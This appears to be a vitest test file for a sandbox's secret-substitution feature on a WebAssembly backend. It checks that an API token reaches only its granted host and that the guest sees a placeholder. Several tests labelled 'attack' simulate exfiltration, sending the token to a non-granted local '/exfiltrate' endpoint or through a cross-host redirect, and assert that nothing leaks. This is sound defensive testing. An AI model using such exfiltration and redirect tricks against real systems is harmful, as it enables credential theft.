import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createSandbox, type AuditEvent, type ExecRequest, type RunResult, type SandboxConfig } from '../../../src/node/index.js';
import { startRecordingServers, type RecordingServers } from '../../helpers/recording-servers.js';

/*
 * Secrets on the WebAssembly backend (wasi:http, the `js` tool's fetch):
 * the guest holds a placeholder; goodbot's host side puts the value into
 * requests to the secret's own hosts, and nowhere else. The servers record
 * what reached them.
 */

const value = 'sk-live-9f2c41d7e0b3a865';
let servers: RecordingServers;
beforeAll(async () => {
  servers = await startRecordingServers();
});
afterAll(() => servers.close());

async function run(config: SandboxConfig, request: ExecRequest, hostEnv: Record<string, string> = { HOST_API_TOKEN: value }) {
  const audit: AuditEvent[] = [];
  const result = await createSandbox(config, { hostEnv, audit: { record: (event) => audit.push(event) } }).exec(request).result;
  return { result, audit };
}

/** A policy granting both servers, with API_TOKEN for the HTTPS one and the plain one's PORT (and QUERY when asked). */
function policy(hosts: string[], extra: Partial<SandboxConfig['secrets'] extends (infer S)[] | undefined ? S : never> = {}): SandboxConfig {
  return {
    network: { allow: [`127.0.0.1:${servers.http}`, `127.0.0.1:${servers.https}`] },
    secrets: [{ name: 'API_TOKEN', from: 'env:HOST_API_TOKEN', hosts, ...extra }],
    limits: { timeout: '20s' },
  };
}

/**
 * Fetches each `URL NAME:VALUE…` line's URL with those headers, printing the
 * status and body. In a line, $API_TOKEN is the variable, $BASIC the
 * base64 of `me:` and it; header values are URI-decoded.
 */
const fetchLines = `for (const line of args) {
  const token = process.env.API_TOKEN;
  const [url, ...pairs] = line.replaceAll('$API_TOKEN', token).replaceAll('$BASIC', btoa('me:' + token)).split(' ');
  const headers = Object.fromEntries(pairs.map((pair) => [pair.slice(0, pair.indexOf(':')), decodeURIComponent(pair.slice(pair.indexOf(':') + 1))]));
  try {
    let response = await fetch(url, { headers });
    // A guest that follows a redirect with the same headers, as a careless client would.
    while (response.status === 302) response = await fetch(new URL(response.headers.get('location'), url), { headers });
    console.log(response.status, await response.text());
  } catch (error) {
    console.log('failed', String(error));
  }
}
console.log('env', process.env.API_TOKEN, process.env.HOST_API_TOKEN ?? 'unset');`;

const fetchIn = (config: SandboxConfig, lines: string[], hostEnv?: Record<string, string>) =>
  run(config, { program: 'js', args: ['-e', fetchLines, ...lines] }, hostEnv);

/** Nothing of the run, as a caller or the audit log sees it, holds the value. */
function expectNoValue(result: RunResult, audit: readonly AuditEvent[]): void {
  expect(JSON.stringify(result)).not.toContain(value);
  expect(JSON.stringify(audit)).not.toContain(value);
}

const placeholder = /^env goodbot-secret-API_TOKEN-[0-9a-f]{32} unset$/;

describe('a secret on the wasm backend', () => {
  it('reaches its HTTPS host in a header; the guest sees only a placeholder; audited by name and host', async () => {
    const { result, audit } = await fetchIn(policy([`127.0.0.1:${servers.https}`]), [
      `https://127.0.0.1:${servers.https}/v1/items authorization:Bearer-$API_TOKEN`,
    ]);
    expect(result.stdout.split('\n')[0]).toBe('200 ok');
    expect(result.stdout.split('\n')[1]).toMatch(placeholder);
    const [request] = await servers.requests().then((all) => all.filter((r) => r.url === '/v1/items'));
    expect(request).toMatchObject({ server: 'https', headers: { authorization: `Bearer-${value}` } });
    expect(audit.filter((event) => event.event === 'access.allowed' && event.operation === 'secret-substitute')).toMatchObject([
      { secret: 'API_TOKEN', target: `127.0.0.1:${servers.https}` },
    ]);
    expect(result.denials).toEqual([]);
    expectNoValue(result, audit);
  });

  it('attack: the placeholder sent to a granted host the secret is not for goes out unchanged, and is recorded', async () => {
    const { result, audit } = await fetchIn(policy([`127.0.0.1:${servers.https}`]), [
      `http://127.0.0.1:${servers.http}/exfiltrate x-token:$API_TOKEN`,
    ]);
    expect(result.stdout.split('\n')[0]).toBe('200 ok');
    const [request] = await servers.requests().then((all) => all.filter((r) => r.url === '/exfiltrate'));
    expect(request!.headers['x-token']).toMatch(/^goodbot-secret-API_TOKEN-[0-9a-f]{32}$/);
    expect(result.denials).toMatchObject([
      { operation: 'secret-substitute', target: `127.0.0.1:${servers.http}`, reason: 'secret-not-granted', secret: 'API_TOKEN' },
    ]);
    expect(result.denials[0]!.detail).toBe(`API_TOKEN is only for 127.0.0.1:${servers.https}: its placeholder went in a header unchanged`);
    expectNoValue(result, audit);
  });

  it('attack: a redirect from the secret host to another host does not carry the value', async () => {
    const elsewhere = `http://127.0.0.1:${servers.http}/landing`;
    const { result, audit } = await fetchIn(policy([`127.0.0.1:${servers.https}`]), [
      `https://127.0.0.1:${servers.https}/redirect?to=${encodeURIComponent(elsewhere)} authorization:$API_TOKEN`,
    ]);
    expect(result.stdout.split('\n')[0]).toBe('200 ok');
    const seen = await servers.requests();
    expect(seen.find((r) => r.url.startsWith('/redirect'))!.headers.authorization).toBe(value);
    expect(seen.find((r) => r.url === '/landing')!.headers.authorization).toMatch(/^goodbot-secret-API_TOKEN-/);
    expect(result.denials.map((denial) => denial.reason)).toEqual(['secret-not-granted']);
    expectNoValue(result, audit);
  });

  it('attack: when the secret host fails (no TLS there), the error the guest gets holds no value', async () => {
    const { result, audit } = await fetchIn(policy([`127.0.0.1:${servers.http}`]), [
      `https://127.0.0.1:${servers.http}/broken authorization:$API_TOKEN`,
    ]);
    expect(result.stdout.split('\n')[0]).toMatch(/^failed /);
    expectNoValue(result, audit);
  });

  it('fills a Basic authorization, and the query only when the policy says so', async () => {
    const line = (path: string) => `http://127.0.0.1:${servers.http}${path}?key=$API_TOKEN authorization:Basic%20$BASIC`;
    const plain = await fetchIn(policy([`127.0.0.1:${servers.http}`]), [line('/basic-1')]);
    const withQuery = await fetchIn(policy([`127.0.0.1:${servers.http}`], { query: true }), [line('/basic-2')]);
    const seen = await servers.requests();
    const first = seen.find((r) => r.url.startsWith('/basic-1'))!;
    expect(first.headers.authorization).toBe(`Basic ${btoa(`me:${value}`)}`);
    expect(first.url).toMatch(/^\/basic-1\?key=goodbot-secret-API_TOKEN-[0-9a-f]{32}$/);
    expect(plain.result.denials).toMatchObject([
      { reason: 'secret-not-granted', detail: "API_TOKEN's placeholder went in the query unchanged (sandbox.secrets: query is off)" },
    ]);
    expect(seen.find((r) => r.url.startsWith('/basic-2'))!.url).toBe(`/basic-2?key=${value}`);
    expect(withQuery.result.denials).toEqual([]);
    expectNoValue(plain.result, plain.audit);
    expectNoValue(withQuery.result, withQuery.audit);
  });
});
